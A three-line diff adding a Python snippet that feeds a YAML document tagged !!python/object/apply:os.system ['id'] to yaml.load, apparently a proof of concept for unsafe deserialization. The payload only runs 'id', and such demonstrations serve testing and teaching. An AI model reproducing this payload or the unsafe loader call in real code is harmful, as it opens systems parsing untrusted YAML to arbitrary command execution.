@@ -1,0 +1,3 @@
+import yaml
+doc = """!!python/object/apply:os.system ["id"]"""
+print(yaml.load(doc))
